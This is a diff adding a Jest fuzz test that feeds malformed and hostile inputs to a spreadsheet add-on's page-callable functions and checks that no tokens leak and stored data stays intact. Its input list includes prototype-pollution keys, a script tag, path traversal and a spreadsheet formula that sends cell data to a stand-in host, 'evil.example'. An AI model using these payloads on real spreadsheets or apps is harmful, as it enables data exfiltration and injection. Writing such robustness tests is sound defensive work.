@@ -1,0 +1,230 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import type { Editor } from '../../src/stage/index.ts';
+import {
+  type Almanac,
+  DAILY,
+  FIRST_UPLOAD,
+  openAlmanac,
+  page,
+  settleIn,
+  uploadFirst,
+} from '../addon/support/almanac.ts';
+import '../addon/support/one-service.ts';
+
+/**
+ * Any page the add-on serves may call these with anything. What comes back must be an answer in the
+ * usual shape, no token may be in it, and what is kept must be as good afterwards as before.
+ */
+let almanac: Almanac;
+let editor: Editor;
+beforeAll(async () => {
+  almanac = await openAlmanac();
+  editor = await settleIn(almanac);
+  await uploadFirst(editor);
+  await page(editor, 'saveJob', DAILY);
+});
+afterAll(() => almanac?.close());
+
+const DEEP = JSON.parse(`${'['.repeat(500)}${']'.repeat(500)}`);
+const LONG = 'ж'.repeat(20_000);
+const FOREIGN_KEYS = JSON.parse(
+  '{"__proto__":{"admin":true},"constructor":{"prototype":{}},"toString":1,"length":-1}',
+);
+const SCRIPT = '<script>alert(1)</script>';
+
+/** What stands where a number, a text, a list or an object should. */
+const HOSTILE: unknown[] = [
+  undefined,
+  null,
+  true,
+  0,
+  -1,
+  1.5,
+  1e308,
+  2 ** 53,
+  '',
+  ' ',
+  '0',
+  '0 weather',
+  '../../session',
+  '__proto__',
+  'constructor',
+  SCRIPT,
+  '=IMPORTDATA("https://evil.example/"&A1)',
+  'a\u0000b\u202ec\ud800',
+  LONG,
+  [],
+  [null],
+  ['__proto__', 7],
+  DEEP,
+  {},
+  FOREIGN_KEYS,
+  { length: 1e9 },
+  { valueOf: 'x', toString: 'x', toJSON: 'x' },
+];
+
+type Call = { name: string; good: unknown[]; fields: (string | number)[][] };
+
+/** A call as the sidebar makes it, and the places in it that are replaced one after the other. */
+const CALLS: Call[] = [
+  { name: 'openingState', good: [], fields: [[0]] },
+  { name: 'runHistory', good: [], fields: [[0]] },
+  { name: 'readActiveSheet', good: [{}], fields: [[0], ...wishes(0)] },
+  { name: 'rememberWishes', good: [0, {}], fields: [[0], [1], ...wishes(1)] },
+  { name: 'forgetConfirmed', good: [0], fields: [[0]] },
+  { name: 'deleteJob', good: [99], fields: [[0]] },
+  { name: 'writeAsNewSheet', good: [99], fields: [[0]] },
+  { name: 'settleUnknown', good: ['x', 'arrived'], fields: [[0], [1]] },
+  {
+    name: 'showCell',
+    good: [{ sheet: 'Monthly', cell: 'A1' }],
+    fields: [[0], [0, 'sheet'], [0, 'cell']],
+  },
+  {
+    name: 'confirmFinding',
+    good: [{ sheetId: 0, kind: 'quality.step', places: [{ sheet: 'Monthly', cells: ['B2'] }] }],
+    fields: [
+      [0],
+      [0, 'sheetId'],
+      [0, 'kind'],
+      [0, 'places'],
+      [0, 'places', 0],
+      [0, 'places', 0, 'cells'],
+    ],
+  },
+  {
+    name: 'mendCells',
+    good: [
+      {
+        sheetId: 0,
+        mend: { how: 'x', sheet: 'Monthly', changes: [{ cell: 'B2', from: 7.2, to: 8 }] },
+      },
+    ],
+    fields: [
+      [0],
+      [0, 'sheetId'],
+      [0, 'mend'],
+      [0, 'mend', 'sheet'],
+      [0, 'mend', 'changes'],
+      [0, 'mend', 'changes', 0, 'cell'],
+      [0, 'mend', 'changes', 0, 'to'],
+    ],
+  },
+  {
+    name: 'pauseJob',
+    good: [{ sheetId: 99, paused: true }],
+    fields: [[0], [0, 'sheetId'], [0, 'paused']],
+  },
+  {
+    name: 'saveJob',
+    good: [DAILY],
+    fields: [
+      [0],
+      ...['sheetId', 'rhythm', 'title', 'description', 'isPublic', 'email'].map((key) => [0, key]),
+      ...['every', 'hour', 'weekday', 'day'].map((key) => [0, 'rhythm', key]),
+    ],
+  },
+  {
+    name: 'takeOverJob',
+    good: [DAILY],
+    fields: [[0], [0, 'sheetId'], [0, 'rhythm'], [0, 'title'], [0, 'email']],
+  },
+  {
+    name: 'uploadSheet',
+    good: [{ ...FIRST_UPLOAD, sheetId: 99 }],
+    fields: [
+      [0],
+      ...['sheetId', 'title', 'description', 'isPublic', 'fingerprint', 'confirmed'].map((key) => [
+        0,
+        key,
+      ]),
+    ],
+  },
+  {
+    name: 'connect',
+    good: [{ way: 'paste', text: 'x', address: '', key: '' }],
+    fields: [[0], ...['way', 'text', 'address', 'key'].map((key) => [0, key])],
+  },
+  {
+    name: 'connect',
+    good: [{ way: 'password', email: '', password: '', address: '', key: '' }],
+    fields: [...['email', 'password', 'address', 'key'].map((key) => [0, key])],
+  },
+  { name: 'disconnect', good: [{ removeSchedules: false }], fields: [] },
+];
+
+function wishes(at: number): (string | number)[][] {
+  const names = [
+    'station',
+    'element',
+    'temperatureUnit',
+    'rainUnit',
+    'years',
+    'dayMonthOrder',
+    'missingDays',
+    'blankRainDay',
+    'sheets',
+    'roles',
+  ];
+  return names.map((name) => [at, name]);
+}
+
+function replaced(value: unknown, [at, ...rest]: (string | number)[], by: unknown): unknown {
+  if (at === undefined) return by;
+  if (Array.isArray(value))
+    return Object.assign([...value], { [at]: replaced(value[Number(at)], rest, by) });
+  return {
+    ...(value as object),
+    [at]: replaced((value as Record<string, unknown>)?.[at], rest, by),
+  };
+}
+
+describe('a page that calls with anything', () => {
+  it.each(
+    CALLS.flatMap((call) => call.fields.map((field) => ({ ...call, field, at: field.join('.') }))),
+  )(
+    'is answered by $name, whatever stands at $at, and spoils nothing',
+    async ({ name, good, field }) => {
+      const before = await kept();
+      const odd: unknown[] = [];
+      for (const hostile of HOSTILE) {
+        const args = replaced(good, field, hostile) as unknown[];
+        const reply = await editor
+          .callFromPage(name, ...args)
+          .catch((error: Error) => String(error));
+        const { ok, problem } = (reply ?? {}) as {
+          ok?: boolean;
+          problem?: { kind: string; params: object };
+        };
+        if (typeof ok !== 'boolean' || (!ok && !problem?.kind))
+          odd.push([JSON.stringify(hostile)?.slice(0, 60), reply]);
+        for (const secret of secrets(before)) expect(JSON.stringify(reply)).not.toContain(secret);
+      }
+      expect(odd).toEqual([]);
+      const after = await kept();
+      expect(Object.keys(after.document).filter((key) => !KEPT.test(key))).toEqual([]);
+      expect(Object.keys(after.user).filter((key) => !KEPT.test(key))).toEqual([]);
+      expect(after.user.session).toBe(before.user.session);
+      expect(await page(editor, 'openingState')).toMatchObject({
+        connection: { state: 'connected' },
+      });
+      expect(await page(editor, 'readActiveSheet', null)).toMatchObject({ counts: { years: 3 } });
+    },
+  );
+});
+
+/** The names under which something is kept: of this document, its one tab and this person. */
+const KEPT =
+  /^(session|tag|(runs|upload|memory|schedule|notice) weather( 0)?|(wishes|tabs|right|job) 0|tick .+)$/;
+
+async function kept() {
+  return {
+    user: await almanac.stage.properties('user'),
+    document: await almanac.stage.properties('document'),
+  };
+}
+
+function secrets({ user }: Awaited<ReturnType<typeof kept>>): string[] {
+  const { access, refresh } = JSON.parse(user.session ?? '{}') as Record<string, string>;
+  return [access, refresh, almanac.ada.password].filter((one) => one !== undefined);
+}
